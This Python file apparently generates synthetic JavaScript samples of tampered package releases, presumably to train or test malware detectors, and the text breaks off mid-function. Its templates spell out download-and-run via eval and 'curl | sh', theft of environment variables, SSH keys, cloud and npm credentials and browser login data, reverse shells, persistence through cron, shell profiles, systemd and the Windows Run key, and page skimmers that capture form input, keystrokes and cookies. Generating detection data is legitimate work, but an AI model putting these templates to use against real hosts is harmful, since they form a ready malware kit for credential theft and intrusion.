"""Inert JavaScript look-alikes of what tampered releases have carried.

Each template is a function of a Payload and returns statements.  It names only the reserved host
that was drawn (hosts.check refuses any other), so it can reach nobody.  Nothing here is ever run.
"""

import hiding
import hosts
import jslex

HINTS = {
    "mod": "client agent net api transport lib core io".split(),
    "data": "data body text chunk content buf raw payload".split(),
    "res": "res reply response answer msg r".split(),
    "req": "req request call conn handle q".split(),
    "opts": "opts options cfg settings params conf".split(),
    "fn": "init setup sync load warm check prepare track report".split(),
    "item": "item entry name key k x el node".split(),
    "out": "out result info map acc bag store".split(),
    "path": "file target dest where location p".split(),
    "list": "list items names parts all rows".split(),
    "sock": "sock socket stream link peer c".split(),
    "err": "err e error ex".split(),
}
RESERVED_NAMES = jslex.KEYWORDS | {
    "require", "module", "exports", "process", "global", "globalThis", "window", "document",
    "fetch", "eval", "arguments", "async", "of", "get", "set", "static", "let", "yield", "await",
    "Buffer", "atob", "String", "name", "location", "navigator", "undefined", "NaN", "Function"}


OTHER_FILE = "\x03"


class Payload:
    def __init__(self, rng, env, host, purpose, scope, electron=False, whole=False, words=None):
        self.rng, self.env, self.host = rng, env, hosts.check(host)
        self.purpose, self.scope, self.electron = purpose, scope, electron
        self.whole = whole                   # the code will be a text: only `require` is in reach
        self.naming = "file" if words else rng.choice(["plain", "plain", "short", "hex"])
        self.words = words                   # names of the file, when it should look like its author's
        self.family = purpose
        self.used = set(RESERVED_NAMES)
        self.loader = rng.choice(["create-require", "builtin", "imports"])
        self.modules = {}
        self.load = None
        self.is_async = False
        self.api = []
        address = host[0].isdigit()
        self.scheme = rng.choice(["http", "http", "https"]) if address else \
            rng.choice(["https", "https", "https", "http"])
        self.port = rng.choice([8080, 8443, 3000, 9090]) if rng.random() < (0.5 if address else 0.1) \
            else None
        self.path = self.draw_path()

    def draw_path(self):
        r = self.rng
        word = lambda: r.choice("v1 v2 api collect static js assets init load ping stat p u c t".split())
        tail = r.choice(["%s.js" % r.choice("main app loader chunk index a analytics".split()),
                         "%04x" % r.randrange(65536), r.choice(["sync", "report", "health", "update"]),
                         "%s.txt" % word(), ""])
        return "/" + "/".join([word() for _ in range(r.randrange(0, 3))] + [tail])

    @property
    def origin(self):
        return "%s%s" % (self.host, ":%d" % self.port if self.port else "")

    @property
    def url_text(self):
        return "%s://%s%s" % (self.scheme, self.origin, self.path)

    def v(self, hint="item"):
        if self.naming == "plain":
            base = self.rng.choice(HINTS[hint])
            name, n = base, 2
            while name in self.used:
                name, n = base + str(n), n + 1
        elif self.naming == "file":
            name = self.rng.choice(self.words)
            while name in self.used:
                name = self.rng.choice(self.words) + self.rng.choice(["Value", "Info", "Ref", "Next", "s", "2"])
        elif self.naming == "short":
            n = 0
            name = "a"
            while name in self.used:
                n += 1
                name = (chr(97 + n // 26 % 26) if n >= 26 else "") + chr(97 + n % 26)
        else:
            name = "_0x%04x" % self.rng.randrange(0x1000, 0xffff)
            while name in self.used:
                name = "_0x%04x" % self.rng.randrange(0x1000, 0xffff)
        self.used.add(name)
        return name

    def s(self, text):
        """A string that is hidden only when all strings are."""
        return hiding.mark(text) if self.scope == "all" else hiding.quoted(self.rng, text)

    def h(self, text):
        """A string that is always hidden: it names the host."""
        return hiding.mark(text)

    def url(self):
        if self.rng.random() < 0.25:
            return "%s + %s + %s" % (self.s(self.scheme + "://"), self.h(self.origin), self.s(self.path))
        return self.h(self.url_text)

    def used_api(self, *names):
        self.api += [n for n in names if n not in self.api]

    def mod(self, name):
        self.used_api(name)
        prefix = "node:" if self.env == "esm" and self.rng.random() < 0.5 else ""
        if self.env == "cjs":
            form = 1 if self.whole else self.rng.random()
            call = "module.require" if form < 0.06 else "process.mainModule.require" if form < 0.12 \
                else "require"
            return "%s(%s)" % (call, self.s(prefix + name))
        if self.loader == "create-require":
            self.load = self.load or self.v("fn")
            return "%s(%s)" % (self.load, self.s(prefix + name))
        if self.loader == "builtin":
            return "process.getBuiltinModule(%s)" % self.s(name)
        if name not in self.modules:
            self.modules[name] = self.v("mod")
        return self.modules[name]

    def fn(self, args, body):
        if self.rng.random() < 0.5:
            return "function (%s) {\n%s\n}" % (", ".join(args), indent(body))
        return "(%s) => {\n%s\n}" % (", ".join(args), indent(body))

    def pick(self, *choices):
        return self.rng.choice(choices)

    def swallow(self):
        return self.rng.choice(["() => {}", "function () {}"])


def indent(text):
    return "\n".join("  " + line if line else line for line in text.split("\n"))


# ---- running what was fetched --------------------------------------------------------------------

def runners(p):
    """Statements that run the text held in an expression."""
    def by_eval(x):
        p.used_api("eval")
        return p.pick("eval(%s);", "(0, eval)(%s);", "globalThis.eval(%s);") % x

    def by_function(x):
        p.used_api("new Function")
        if p.env == "cjs" and p.rng.random() < 0.5:
            return "new Function(%s, %s)(require);" % (p.s("require"), x)
        return p.pick("new Function(%s)();", "Function(%s)();",
                      "(function () {}).constructor(%s)();") % x

    def by_vm(x):
        p.used_api("vm.runInThisContext")
        return p.pick("%s.runInThisContext(%s);", "new (%s.Script)(%s).runInThisContext();",
                      "%s.runInNewContext(%s, { process, Buffer, console });") % (p.mod("vm"), x)

    def by_compile(x):
        p.used_api("Module._compile")
        m, b = p.v("mod"), p.v("out")
        return ("const %s = %s;\nconst %s = new %s(%s, null);\n%s._compile(%s, %s);"
                % (m, p.mod("module"), b, m, p.s("runtime"), b, x, p.s("runtime.js")))

    def by_spawn(x):
        p.used_api("spawn")
        return p.pick(
            "%s.spawn(process.execPath, ['-e', %s], { detached: true, stdio: 'ignore' }).unref();",
            "%s.execFile(process.execPath, ['-e', %s], { windowsHide: true });") % (
                p.mod("child_process"), x)

    def by_file(x):
        p.used_api("writeFile", "spawn")
        f = p.v("path")
        run = p.pick("%s.spawn(process.execPath, [%s], { detached: true, stdio: 'ignore' }).unref();",
                     "%s.fork(%s);", "%s.exec('node ' + %s);")
        return ("const %s = %s.join(%s.tmpdir(), %s);\n%s.writeFileSync(%s, %s);\n%s"
                % (f, p.mod("path"), p.mod("os"), p.s(p.pick("update.js", ".cache.js", "node-tmp.js")),
                   p.mod("fs"), f, x, run % (p.mod("child_process"), f)))

    def by_import(x):
        p.used_api("import()")
        return "import(%s + Buffer.from(%s).toString('base64'));" % (p.s("data:text/javascript;base64,"), x)

    def by_worker(x):
        p.used_api("Worker")
        return "new (%s.Worker)(%s, { eval: true });" % (p.mod("worker_threads"), x)

    def by_shell(x):
        p.used_api("exec")
        return p.pick("%s.exec(%s);", "%s.execSync(%s);",
                      "%s.spawn(%s, { shell: true, stdio: 'ignore' });") % (p.mod("child_process"), x)

    return [by_eval, by_function, by_vm, by_compile, by_spawn, by_file, by_import, by_worker, by_shell]


def run_text(p, x):
    return p.rng.choice(runners(p))(x)


# ---- fetching -------------------------------------------------------------------------------------

def get_stream(p, use):
    """http.get with a growing string."""
    p.used_api("http.get")
    r, d, c = p.v("res"), p.v("data"), p.v("item")
    body = ("let %(d)s = '';\n%(r)s.on('data', %(on)s);\n%(r)s.on('end', %(end)s);" % {
        "d": d, "r": r, "on": p.fn([c], "%s += %s;" % (d, c)), "end": p.fn([], use(d))})
    return "%s.get(%s, %s).on('error', %s);" % (p.mod(p.scheme), p.url(), p.fn([r], body), p.swallow())


def get_request(p, use):
    p.used_api("http.request")
    r, d, c, q = p.v("res"), p.v("list"), p.v("item"), p.v("req")
    options = "{\n  hostname: %s,\n  path: %s,\n%s  method: 'GET'\n}" % (
        p.h(p.host), p.s(p.path), "  port: %d,\n" % p.port if p.port else "")
    body = ("const %(d)s = [];\n%(r)s.on('data', %(on)s);\n%(r)s.once('end', %(end)s);" % {
        "d": d, "r": r, "on": p.fn([c], "%s.push(%s);" % (d, c)),
        "end": p.fn([], use("Buffer.concat(%s).toString()" % d))})
    return "const %s = %s.request(%s, %s);\n%s.on('error', %s);\n%s.end();" % (
        q, p.mod(p.scheme), options, p.fn([r], body), q, p.swallow(), q)


def get_fetch(p, use):
    p.used_api("fetch")
    r, t = p.v("res"), p.v("data")
    head = p.pick("fetch(%s)", "globalThis.fetch(%s)", "fetch(new URL(%s))") % p.url()
    return "%s.then((%s) => %s.text()).then(%s).catch(%s);" % (
        head, r, r, p.fn([t], use(t)), p.swallow())


def get_await(p, use):
    p.used_api("fetch")
    p.is_async = True
    r, t = p.v("res"), p.v("data")
    return "const %s = await fetch(%s, { headers: { 'x-client': %s } });\nconst %s = await %s.text();\n%s" % (
        r, p.url(), p.s("1.%d" % p.rng.randrange(9)), t, r, use(t))


def get_socket(p, use):
    p.used_api("net.connect")
    s, d, c = p.v("sock"), p.v("data"), p.v("item")
    return ("const %(s)s = %(net)s.connect(%(port)d, %(host)s);\nlet %(d)s = '';\n"
            "%(s)s.setEncoding('utf8');\n%(s)s.on('data', %(on)s);\n%(s)s.on('end', %(end)s);\n"
            "%(s)s.on('error', %(no)s);") % {
        "s": s, "net": p.mod("net"), "port": p.port or 4443, "host": p.h(p.host), "d": d,
        "on": p.fn([c], "%s += %s;" % (d, c)), "end": p.fn([], use(d)), "no": p.swallow()}


def get_dns(p, use):
    p.used_api("dns.resolveTxt")
    e, r = p.v("err"), p.v("list")
    x = p.v("item")
    body = "if (%s) return;\n%s" % (e, use("%s.map((%s) => %s.join('')).join('')" % (r, x, x)))
    return "%s.resolveTxt(%s, %s);" % (p.mod("dns"), p.h(p.host), p.fn([e, r], body))


def get_curl(p, use):
    p.used_api("execSync")
    d = p.v("data")
    return "const %s = %s.execSync(%s + %s, { encoding: 'utf8', windowsHide: true });\n%s" % (
        d, p.mod("child_process"), p.s("curl -fsSL "), p.url(), use(d))


def get_websocket(p, use):
    p.used_api("WebSocket")
    s, e = p.v("sock"), p.v("item")
    url = p.h("%s://%s%s" % ("wss" if p.scheme == "https" else "ws", p.origin, p.path))
    return "const %s = new WebSocket(%s);\n%s.onmessage = %s;" % (s, url, s, p.fn([e], use(e + ".data")))


def get_electron(p, use):
    p.used_api("electron.net")
    r, t = p.v("res"), p.v("data")
    return "%s.net.fetch(%s).then((%s) => %s.text()).then(%s).catch(%s);" % (
        p.mod("electron"), p.url(), r, r, p.fn([t], use(t)), p.swallow())


def pipe_to_shell(p):
    p.used_api("exec")
    url = p.url()
    how = p.rng.randrange(4)
    cp = p.mod("child_process")
    if how == 0:
        return "%s.exec(%s + %s + %s, %s);" % (cp, p.s("curl -s "), url, p.s(" | sh"), p.swallow())
    if how == 1:
        return "%s.exec(`%s${%s}%s`);" % (cp, "wget -qO- ", url, " | bash")
    if how == 2:
        return "%s.spawn(%s, ['-c', %s + %s + %s], { detached: true, stdio: 'ignore' }).unref();" % (
            cp, p.s("/bin/sh"), p.s("curl -fsSL "), url, p.s(" | sh"))
    return ("%s.spawn(%s, ['-NoProfile', '-Command', %s + %s + %s], { windowsHide: true });"
            % (cp, p.s("powershell"), p.s("iex (iwr -UseBasicParsing "), url, p.s(")")))


def download_binary(p):
    p.used_api("createWriteStream", "spawn")
    f, r, o = p.v("path"), p.v("res"), p.v("out")
    name = p.pick("updater.exe", "svc", ".helper", "runtime.bin")
    run = "%s.chmodSync(%s, 0o755);\n%s.spawn(%s, [], { detached: true, stdio: 'ignore' }).unref();" % (
        p.mod("fs"), f, p.mod("child_process"), f)
    body = "const %s = %s.createWriteStream(%s);\n%s.pipe(%s);\n%s.on('close', %s);" % (
        o, p.mod("fs"), f, r, o, o, p.fn([], run))
    return "const %s = %s.join(%s.tmpdir(), %s);\n%s.get(%s, %s).on('error', %s);" % (
        f, p.mod("path"), p.mod("os"), p.s(name), p.mod(p.scheme), p.url(), p.fn([r], body), p.swallow())


def download_and_run(p):
    shape = p.rng.random()
    if shape < 0.15:
        return pipe_to_shell(p)
    if shape < 0.28:
        return download_binary(p)
    getters = [get_stream, get_stream, get_request, get_fetch, get_await, get_socket, get_dns,
               get_curl, get_websocket]
    if p.electron:
        getters += [get_electron, get_electron]
    return p.rng.choice(getters)(p, lambda x: run_text(p, x))


# ---- sending --------------------------------------------------------------------------------------

def send_request(p, x):
    p.used_api("http.request")
    d, q = p.v("data"), p.v("req")
    how = p.rng.random()
    if how < 0.5:
        return ("const %(d)s = %(x)s;\nconst %(q)s = %(m)s.request({\n  hostname: %(host)s,\n"
                "%(port)s  path: %(path)s,\n  method: 'POST',\n"
                "  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(%(d)s) }\n"
                "});\n%(q)s.on('error', %(no)s);\n%(q)s.write(%(d)s);\n%(q)s.end();") % {
            "d": d, "x": x, "q": q, "m": p.mod(p.scheme), "host": p.h(p.host), "path": p.s(p.path),
            "no": p.swallow(), "port": "  port: %d,\n" % p.port if p.port else ""}
    return "const %s = %s.request(%s, { method: %s });\n%s.on('error', %s);\n%s.end(%s);" % (
        q, p.mod(p.scheme), p.url(), p.s("POST"), q, p.swallow(), q, x)


def send_fetch(p, x):
    p.used_api("fetch")
    return "fetch(%s, { method: %s, body: %s }).catch(%s);" % (p.url(), p.s("POST"), x, p.swallow())


def send_query(p, x):
    p.used_api("http.get")
    return "%s.get(%s + '?d=' + encodeURIComponent(%s)).on('error', %s);" % (
        p.mod(p.scheme), p.url(), x, p.swallow())


def send_socket(p, x):
    p.used_api("net.connect")
    s = p.v("sock")
    return "const %s = %s.createConnection({ port: %d, host: %s });\n%s.on('error', %s);\n%s.end(%s);" % (
        s, p.mod("net"), p.port or 5050, p.h(p.host), s, p.swallow(), s, x)


def send_dns(p, x):
    p.used_api("dns.lookup")
    d, i = p.v("data"), p.v("item")
    return ("const %(d)s = Buffer.from(%(x)s).toString('hex');\n"
            "for (let %(i)s = 0; %(i)s < %(d)s.length; %(i)s += 60) {\n"
            "  %(m)s.lookup(%(d)s.slice(%(i)s, %(i)s + 60) + '.' + %(host)s, %(no)s);\n}") % {
        "d": d, "x": x, "i": i, "m": p.mod("dns"), "host": p.h(p.host), "no": p.swallow()}


def send_udp(p, x):
    p.used_api("dgram")
    s, d = p.v("sock"), p.v("data")
    return "const %s = %s.createSocket('udp4');\nconst %s = Buffer.from(%s);\n%s.send(%s, 0, %s.length, %d, %s, () => %s.close());" % (
        s, p.mod("dgram"), d, x, s, d, d, p.port or 5353, p.h(p.host), s)


def send_curl(p, x):
    p.used_api("execFile")
    return "%s.execFile(%s, ['-s', '-X', 'POST', '-d', %s, %s], %s);" % (
        p.mod("child_process"), p.s("curl"), x, p.url(), p.swallow())


def send(p, x):
    return p.rng.choice([send_request, send_request, send_fetch, send_query, send_socket, send_dns,
                         send_udp, send_curl])(p, x)


# ---- what is sent ---------------------------------------------------------------------------------

def environment(p):
    p.used_api("process.env")
    how = p.rng.randrange(6)
    if how == 0:
        return "", "JSON.stringify(process.env)"
    if how == 1:
        return "", "Buffer.from(JSON.stringify(process.env)).toString(%s)" % p.s(p.pick("base64", "hex"))
    if how == 2:
        o = p.v("out")
        return ("const %s = { host: %s.hostname(), user: %s.userInfo().username, cwd: process.cwd(), env: process.env };\n"
                % (o, p.mod("os"), p.mod("os"))), "JSON.stringify(%s)" % o
    if how == 3:
        o, k = p.v("out"), p.v("item")
        return ("const %(o)s = {};\nfor (const %(k)s of Object.keys(process.env)) {\n"
                "  if (/token|key|secret|pass|auth/i.test(%(k)s)) %(o)s[%(k)s] = process.env[%(k)s];\n}\n"
                % {"o": o, "k": k}), "JSON.stringify(%s)" % o
    if how == 4:
        k = p.v("item")
        return "", "Object.keys(process.env).map((%s) => %s + '=' + process.env[%s]).join('\\n')" % (k, k, k)
    e = p.v("out")
    return "const { env: %s } = process;\n" % e, "JSON.stringify(Object.entries(%s))" % e


SECRETS = [".ssh/id_rsa", ".ssh/id_ed25519", ".npmrc", ".aws/credentials", ".git-credentials",
           ".netrc", ".docker/config.json", ".kube/config", ".config/gh/hosts.yml"]
PROFILES = [".config/google-chrome/Default/Login Data", ".mozilla/firefox/profiles.ini",
            "AppData/Local/Google/Chrome/User Data/Default/Cookies",
            "Library/Application Support/Google/Chrome/Default/Login Data"]


def files(p):
    p.used_api("readFile")
    wanted = p.rng.sample(SECRETS, p.rng.randrange(1, 5))
    if p.rng.random() < 0.3:
        wanted.append(p.rng.choice(PROFILES))
    how = p.rng.randrange(4)
    fs = p.mod("fs")
    home = p.pick("%s.homedir()" % p.mod("os"), "(process.env.HOME || process.env.USERPROFILE)")
    if how == 0:
        d = p.v("data")
        first = p.s(wanted[0])
        return ("const %s = %s.readFileSync(%s.join(%s, %s), 'utf8');\n" % (d, fs, p.mod("path"), home, first)), d
    o, f, names = p.v("out"), p.v("path"), ", ".join(p.s(w) for w in wanted)
    if how == 1:
        return ("const %(o)s = {};\nfor (const %(f)s of [%(n)s]) {\n  try {\n"
                "    %(o)s[%(f)s] = %(fs)s.readFileSync(%(home)s + '/' + %(f)s, 'utf8');\n  } catch (%(e)s) {}\n}\n"
                % {"o": o, "f": f, "n": names, "fs": fs, "home": home, "e": p.v("err")}), \
            "JSON.stringify(%s)" % o
    if how == 2:
        p.is_async = True
        return ("const %(o)s = await Promise.all([%(n)s].map((%(f)s) => %(fs)s.promises.readFile("
                "%(path)s.join(%(home)s, %(f)s), 'base64').catch(() => null)));\n"
                % {"o": o, "f": f, "n": names, "fs": fs, "home": home, "path": p.mod("path")}), \
            "JSON.stringify(%s)" % o
    x = p.v("item")
    return ("const %(d)s = %(home)s + %(ssh)s;\nconst %(o)s = %(fs)s.readdirSync(%(d)s)"
            ".map((%(x)s) => %(x)s + ':' + %(fs)s.readFileSync(%(d)s + '/' + %(x)s));\n"
            % {"d": f, "home": home, "ssh": p.s("/.ssh"), "o": o, "fs": fs, "x": x}), "%s.join()" % o


def exfil_environment(p):
    head, x = environment(p)
    return head + send(p, x)


def exfil_files(p):
    head, x = files(p)
    return head + send(p, x)


# ---- reverse shell, persistence -------------------------------------------------------------------

def reverse_shell(p):
    p.used_api("spawn")
    port = p.pick(4444, 9001, 443, 1337, 8081)
    s, c = p.v("sock"), p.v("out")
    how = p.rng.randrange(4)
    shell = p.pick(p.s("/bin/sh"), "process.platform === 'win32' ? 'cmd.exe' : '/bin/sh'", p.s("/bin/bash"))
    if how == 0:
        p.used_api("net.connect")
        return ("const %(c)s = %(cp)s.spawn(%(sh)s, []);\nconst %(s)s = new (%(net)s.Socket)();\n"
                "%(s)s.connect(%(port)d, %(host)s, %(go)s);\n%(s)s.on('error', %(no)s);") % {
            "c": c, "cp": p.mod("child_process"), "sh": shell, "s": s, "net": p.mod("net"), "port": port,
            "host": p.h(p.host), "no": p.swallow(),
            "go": p.fn([], "%s.pipe(%s.stdin);\n%s.stdout.pipe(%s);\n%s.stderr.pipe(%s);" % (s, c, c, s, c, s))}
    if how == 1:
        p.used_api("net.connect", "exec")
        d, e, o = p.v("data"), p.v("err"), p.v("list")
        return ("const %(s)s = %(net)s.connect({ host: %(host)s, port: %(port)d });\n%(s)s.on('error', %(no)s);\n"
                "%(s)s.on('data', %(on)s);") % {
            "s": s, "net": p.mod("net"), "host": p.h(p.host), "port": port, "no": p.swallow(),
            "on": p.fn([d], "%s.exec(%s.toString(), (%s, %s) => %s.write(String(%s)));" % (
                p.mod("child_process"), d, e, o, s, o))}
    if how == 2:
        p.used_api("tls.connect")
        return ("const %(s)s = %(tls)s.connect(%(port)d, %(host)s, { rejectUnauthorized: false }, %(go)s);\n"
                "%(s)s.on('error', %(no)s);") % {
            "s": s, "tls": p.mod("tls"), "port": port, "host": p.h(p.host), "no": p.swallow(),
            "go": p.fn([], "const %s = %s.spawn(%s);\n%s.pipe(%s.stdin);\n%s.stdout.pipe(%s);" % (
                c, p.mod("child_process"), shell, s, c, c, s))}
    p.used_api("exec")
    return "%s.exec(%s + %s + %s, { shell: %s });" % (
        p.mod("child_process"), p.s("bash -i >& /dev/tcp/"), p.h(p.host), p.s("/%d 0>&1" % port), p.s("/bin/bash"))


def persistence(p):
    how = p.rng.randrange(5)
    url, fs, cp = p.url(), p.mod("fs"), p.mod("child_process")
    if how == 0:
        p.used_api("exec", "crontab")
        return "%s.exec(%s + %s + %s);" % (cp, p.s("(crontab -l 2>/dev/null; echo \"*/%d * * * * curl -fsSL " % p.pick(5, 15, 30)),
                                           url, p.s(" | sh\") | crontab -"))
    home = "%s.homedir()" % p.mod("os")
    if how == 1:
        p.used_api("appendFile", "shell profile")
        return "%s.appendFileSync(%s.join(%s, %s), %s + %s + %s);" % (
            fs, p.mod("path"), home, p.s(p.pick(".bashrc", ".profile", ".zshrc")),
            p.s("\n(curl -s "), url, p.s(" | sh) >/dev/null 2>&1 &\n"))
    f = p.v("path")
    if how == 2:
        p.used_api("writeFile", "systemd user unit")
        return ("const %(f)s = %(home)s + %(dir)s;\n%(fs)s.mkdirSync(%(f)s, { recursive: true });\n"
                "%(fs)s.writeFileSync(%(f)s + %(name)s, %(head)s + %(url)s + %(tail)s);\n%(cp)s.exec(%(on)s);") % {
            "f": f, "home": home, "dir": p.s("/.config/systemd/user"), "fs": fs,
            "name": p.s("/%s.service" % p.pick("dbus-sync", "pulse-cache", "gvfs-update")),
            "head": p.s("[Service]\nExecStart=/bin/sh -c 'curl -s "), "url": url,
            "tail": p.s(" | sh'\n[Install]\nWantedBy=default.target\n"), "cp": cp,
            "on": p.s("systemctl --user enable --now dbus-sync")}
    if how == 3:
        p.used_api("writeFile", "Startup folder")
        return "%s.writeFileSync(%s.join(process.env.APPDATA, %s), %s + %s + %s);" % (
            fs, p.mod("path"), p.s("Microsoft/Windows/Start Menu/Programs/Startup/sync.cmd"),
            p.s("@powershell -w hidden -c \"iwr "), url, p.s(" | iex\"\r\n"))
    p.used_api("exec", "registry Run key")
    return "%s.exec(%s + %s + %s);" % (
        cp, p.s("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /t REG_SZ /d \"mshta "),
        url, p.s("\" /f"))


# ---- in a page ------------------------------------------------------------------------------------

def page_script_tag(p):
    p.used_api("script element")
    e = p.v("item")
    return ("const %(e)s = document.createElement(%(s)s);\n%(e)s.%(async)s;\n%(e)s.src = %(url)s;\n%(put)s" % {
        "e": e, "s": p.s("script"), "async": p.pick("async = true", "defer = true", "type = 'text/javascript'"),
        "url": p.url(), "put": p.pick("document.head.appendChild(%s);", "document.documentElement.append(%s);",
                                      "(document.body || document.head).appendChild(%s);") % e})


def page_fetch_run(p):
    p.used_api("fetch")
    r, t = p.v("res"), p.v("data")
    run = p.rng.choice(["eval(%s);", "new Function(%s)();", "(0, eval)(%s);", "setTimeout(%s, 0);",
                        "Function(%s).call(window);"]) % t
    return "fetch(%s).then((%s) => %s.text()).then(%s);" % (p.url(), r, r, p.fn([t], run))


def page_xhr_run(p):
    p.used_api("XMLHttpRequest")
    x = p.v("req")
    run = p.pick("eval(%s.responseText);", "new Function(%s.responseText)();") % x
    return ("const %(x)s = new XMLHttpRequest();\n%(x)s.open('GET', %(url)s);\n%(x)s.onload = %(fn)s;\n%(x)s.send();"
            % {"x": x, "url": p.url(), "fn": p.fn([], run)})


def page_import(p):
    p.used_api("import()")
    return "import(%s).catch(%s);" % (p.url(), p.swallow())


def page_download(p):
    return p.rng.choice([page_script_tag, page_fetch_run, page_xhr_run, page_import])(p)


def page_send(p, x):
    how = p.rng.randrange(5)
    if how == 0:
        p.used_api("sendBeacon")
        return "navigator.sendBeacon(%s, %s);" % (p.url(), x)
    if how == 1:
        p.used_api("Image")
        return "new Image().src = %s + '?q=' + encodeURIComponent(%s);" % (p.url(), x)
    if how == 2:
        p.used_api("fetch")
        return "fetch(%s, { method: 'POST', mode: 'no-cors', body: %s });" % (p.url(), x)
    if how == 3:
        p.used_api("XMLHttpRequest")
        r = p.v("req")
        return "const %s = new XMLHttpRequest();\n%s.open('POST', %s, true);\n%s.send(%s);" % (r, r, p.url(), r, x)
    p.used_api("WebSocket")
    s = p.v("sock")
    url = p.h("wss://%s%s" % (p.origin, p.path))
    return "const %s = new WebSocket(%s);\n%s.onopen = () => %s.send(%s);" % (s, url, s, s, x)


def skimmer(p):
    how = p.rng.randrange(4)
    e, o = p.v("err"), p.v("out")
    if how == 0:
        p.used_api("submit listener")
        body = "const %s = JSON.stringify(Object.fromEntries(new FormData(%s.target)));\n%s" % (o, e, page_send(p, o))
        return "document.addEventListener('submit', %s, true);" % p.fn([e], body)
    if how == 1:
        p.used_api("change listener")
        body = "const %s = %s.target;\nif (/card|cvv|pass|mail|number/i.test(%s.name || %s.id)) {\n%s\n}" % (
            o, e, o, o, indent(page_send(p, "%s.name + '=' + %s.value" % (o, o))))
        return "window.addEventListener('change', %s, true);" % p.fn([e], body)
    if how == 2:
        p.used_api("keydown listener")
        body = "%s += %s.key;\nif (%s.length > %d) {\n%s\n  %s = '';\n}" % (
            o, e, o, p.pick(20, 40, 64), indent(page_send(p, o)), o)
        return "let %s = '';\ndocument.addEventListener('keydown', %s);" % (o, p.fn([e], body))
    p.used_api("input polling")
    i = p.v("item")
    return ("setInterval(%s, %d);" % (p.fn([], "const %s = [...document.querySelectorAll('input')].map((%s) => %s.name + ':' + %s.value).join('&');\n%s"
                                           % (o, i, i, i, page_send(p, o))), p.pick(2000, 5000, 9000)))


def page_secrets(p):
    x = p.pick("document.cookie", "JSON.stringify(localStorage)",
               "JSON.stringify({ cookie: document.cookie, page: location.href, store: { ...localStorage } })")
    p.used_api("cookie or storage")
    return page_send(p, x)


NODE = {
    "download-run": download_and_run,
    "exfil-environment": exfil_environment,
    "exfil-files": exfil_files,
    "reverse-shell": reverse_shell,
    "persistence": persistence,
}
PAGE = {
    "download-run": page_download,
    "skimmer": skimmer,
    "exfil-page": page_secrets,
}


# ---- the statement around it ----------------------------------------------------------------------

def gate(p):
    """A condition that keeps the code quiet at the wrong time or place; None for no gate."""
    if p.rng.random() > 0.3:
        return None, None
    if p.env == "browser":
        return p.rng.choice([
            ("page", "/checkout|login|account/.test(location.pathname)"),
            ("date", "Date.now() > %d" % p.rng.randrange(1735689600000, 1767225600000)),
            ("chance", "Math.random() < 0.%d" % p.rng.randrange(1, 9)),
        ])
    return p.rng.choice([
        ("date", "Date.now() > %d" % p.rng.randrange(1735689600000, 1767225600000)),
        ("date", "new Date().getHours() > %d" % p.rng.randrange(1, 20)),
        ("ci", "process.env.CI"),
        ("ci", "!process.env.CI"),
        ("host", "/%s/.test(%s.hostname())" % (p.rng.choice(["corp", "prod", "build", "srv"]), p.mod("os"))),
        ("platform", "process.platform %s 'win32'" % p.rng.choice(["===", "!=="])),
    ])


def wrap(p, body):
    """One statement that runs `body` in a scope of its own."""
    if p.is_async:
        return p.rng.choice(["(async () => {\n%s\n})().catch(() => {});",
                             "(async function () {\n%s\n})().catch(function () {});",
                             "void (async () => {\n  try {\n%s\n  } catch {}\n})();"]) % indent(body)
    shapes = ["(function () {\n%s\n})();", "(() => {\n%s\n})();", "!function () {\n%s\n}();",
              "void function () {\n%s\n}();", "try {\n%s\n} catch (_) {}",
              "setTimeout(function () {\n%s\n}, " + str(p.rng.randrange(1, 90) * 100) + ");",
              "Promise.resolve().then(() => {\n%s\n}).catch(() => {});"]
    if p.env != "browser":
        shapes += ["setImmediate(() => {\n%s\n});", "process.nextTick(function () {\n%s\n});"]
    return p.rng.choice(shapes) % indent(body)


def reach_modules(p, statement):
    """In an ES module: makes the modules that the statement uses reachable."""
    if p.env != "esm":
        return statement
    if p.load:
        return ("import('module').then(({ createRequire }) => {\n  const %s = createRequire(import.meta.url);\n%s\n}).catch(() => {});"
                % (p.load, indent(statement)))
    if p.modules:
        names = list(p.modules)
        return "Promise.all([%s]).then(([%s]) => {\n%s\n}).catch(() => {});" % (
            ", ".join("import('%s')" % n for n in names), ", ".join(p.modules[n] for n in names),
            indent(statement))
    return statement


class Made:
    """A finished statement and what is known of it."""

    def __init__(self, **fields):
        self.__dict__.update(fields)


def build(rng, env, purpose, host, style, electron=False, template=None, words=None):
    """Draws one statement: `env` cjs, esm or browser; `style` of hiding.py; `template` makes its body
    in place of the one of `purpose`; `words` are names to use."""
    whole = style.startswith("code-")
    scope = "none" if style == "none" else "all" if rng.random() < 0.45 else "host"
    p = Payload(rng, env, host, purpose, "host" if whole else scope, electron, whole, words)
    if whole and env == "esm":
        p.loader = "create-require"
    table = PAGE if env == "browser" else NODE
    body = (template or table[purpose])(p)
    gate_kind, condition = gate(p)
    if condition:
        body = "if (%s) {\n%s\n}" % (condition, indent(body))
    names = lambda: p.v("item")
    other_file = None
    if whole:
        inner = hiding.plain(wrap(p, body))
        shown, pairs = whole_statement(p, rng, style, inner, names)
        statement, head = shown, ""
    else:
        hider = hiding.Hider(rng, style, names, env == "browser")
        body = hider.apply(body)
        head, pairs = hider.head, hider.pairs
        if hider.other_file:                 # the tamperer writes the file and puts its name in
            if env != "cjs":
                raise hiding.NothingHidden()
            other_file = hider.other_file
            body = "const %s = require('%s');\n%s" % (hider.helper, OTHER_FILE, body)
        if head:
            body = head + body
        statement = reach_modules(p, wrap(p, body))
    if not whole and not head and style not in ("none", "in-style") and not pairs:
        raise hiding.NothingHidden()
    jslex.lex(statement)
    return Made(other_file=other_file, family=p.family, statement=statement, pairs=pairs, head=head, api=p.api, gate=gate_kind, host=host,
                naming=p.naming, scope="code" if whole else scope, url=p.url_text)


def whole_statement(p, rng, style, inner, names):
    """The statement as a text that a later statement decodes and runs."""
    if p.env == "esm":
        inner = inner if not p.load else "var %s = require;\n%s" % (p.load, inner)
    expression = hiding.encode_code(rng, style, inner, names, p.env == "browser")
    pairs = [[expression, inner]]
    if p.env == "esm":
        return ("import('module').then((%s) => { const require = %s.createRequire(import.meta.url); "
                "new Function('require', %s)(require); }).catch(() => {});" % ("m", "m", expression)), pairs
    shapes = ["eval(%s);", "(0, eval)(%s);", "new Function(%s)();"]
    if p.env == "browser":
        shapes += ["setTimeout(%s, 0);", "Function(%s).call(window);"]
    else:
        shapes = ["eval(%s);", "new Function('require', %s)(require);", "eval(%s);",
